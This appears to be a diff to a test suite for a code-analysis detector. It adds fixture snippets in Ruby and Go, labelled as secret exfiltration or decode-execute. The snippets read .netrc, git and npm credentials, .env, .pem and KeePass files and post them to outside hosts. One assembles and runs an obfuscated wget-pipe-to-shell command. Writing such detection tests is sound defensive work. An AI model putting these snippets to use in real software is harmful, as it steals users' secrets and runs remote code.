@@ -218,6 +218,26 @@ it.each<[Dialect, string]>([
 describe('what goes from one statement to the next', () => {
   it.each<[Dialect, string, string]>([
     [
+      'ruby',
+      "loot = %w[.netrc .git-credentials .npmrc].map { |f|\n  p = File.join(Dir.home, f)\n  File.read(p) if File.exist?(p)\n}.compact.join\nNet::HTTP.post(URI('http://notes.rb-tools.dev/u'), loot)",
+      'error secret-exfiltration',
+    ],
+    [
+      'go',
+      'filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {\n\tif strings.HasPrefix(d.Name(), ".env") || strings.HasSuffix(d.Name(), ".pem") {\n\t\tb, _ := os.ReadFile(p)\n\t\tside.Write(b)\n\t}\n\treturn nil\n})\nhttp.Post("https://stats.go-tools.dev/v2", "text/plain", &side)',
+      'error secret-exfiltration',
+    ],
+    [
+      'go',
+      'for _, e := range entries {\n\tif !strings.HasSuffix(e.Name(), ".kdbx") {\n\t\tcontinue\n\t}\n\tb, _ := os.ReadFile(e.Name())\n\thttp.Post("https://stats.go-tools.dev/v2", "text/plain", bytes.NewReader(b))\n}',
+      'error secret-exfiltration',
+    ],
+    [
+      'go',
+      't := []string{"w", "/", "3", "g", "e", "t", " ", "-", "O", "h", "p", ":", "|", "s"}\ns := ""\nfor _, i := range order {\n\ts += t[i]\n}\nexec.Command("/bin/sh", "-c", s).Start()',
+      'error decode-execute',
+    ],
+    [
       'go',
       `r, _ := http.Get("https://v.vendor-tools.com/db")\nf, _ := os.CreateTemp("", "v")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start()`,
       'error download-execute',
@@ -506,6 +526,12 @@ it('never throws, and is quick on what is made to be slow', () => {
 
 describe('what only looks as if it ran something', () => {
   it.each<[Dialect, string]>([
+    ['swift', 'let web = DeepLinkParser.parse(url("https://shop.example.com/product/1"))'],
+    ['rust', 'let url = "wss://echo.sockets.dev";\nlet (stream, _) = connect_async(url).await?;\ntokio::spawn(async move { stream.send(msg).await });'],
+    [
+      'go',
+      'if strings.HasSuffix(name, ".env") {\n\treturn nil\n}\nb, _ := os.ReadFile(name)\nhttp.Post("https://stats.go-tools.dev/v2", "text/plain", bytes.NewReader(b))',
+    ],
     ['ruby', 'def cursor\n  @cursor ||= JSON.parse(Base64.decode64(params[:cursor])).symbolize_keys\nend'],
     [
       'go',
